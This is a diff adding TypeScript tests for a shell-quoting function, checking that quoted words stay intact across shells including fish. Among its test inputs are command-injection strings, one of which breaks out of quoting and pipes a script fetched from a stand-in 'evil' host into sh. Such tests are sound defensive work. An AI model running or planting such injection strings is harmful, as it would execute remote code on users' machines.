@@ -63,3 +63,49 @@ describe('shellQuote', () => {
     SHELL_RUNS_TIMEOUT_MS,
   );
 });
+
+/**
+ * The single-quoted parts of a quoted word. Inside single quotes fish reads `\'` and `\\` as
+ * escapes where POSIX shells read them as they are: a part holding either would end the quote
+ * early in fish, and the rest of a copied command would run there.
+ */
+function singleQuotedParts(word: string): string[] {
+  const parts: string[] = [];
+  for (let i = 0; i < word.length; i++) {
+    if (word[i] === '\\') {
+      i++; // outside quotes, the next character is plain
+    } else if (word[i] === "'") {
+      const end = word.indexOf("'", i + 1);
+      expect(end).toBeGreaterThan(i);
+      parts.push(word.slice(i + 1, end));
+      i = end;
+    }
+  }
+  return parts;
+}
+
+describe('shellQuote, for every common shell', () => {
+  it.each(["a\\';id;#", "x\\'\\'; curl -s https://evil/p|sh;#", '\\', "'", "\\\\''"])(
+    'keeps backslashes and quotes of %j outside single quotes, and the word intact',
+    (value) => {
+      const quoted = shellQuote(value);
+      for (const part of singleQuotedParts(quoted)) expect(part).not.toMatch(/[\\']/);
+      expect(wordsOf(quoted)).toEqual([value]);
+    },
+  );
+
+  it('keeps them outside for any generated text', () => {
+    const shellish = fc
+      .array(fc.constantFrom(...SHELL_SPECIALS, 'a', 'b c'), { maxLength: 10 })
+      .map((parts) => parts.join(''))
+      .filter((value) => !startsLikeOption(value));
+    fc.assert(
+      fc.property(shellish, (value) => {
+        for (const part of singleQuotedParts(shellQuote(value))) {
+          expect(part).not.toMatch(/[\\']/);
+        }
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
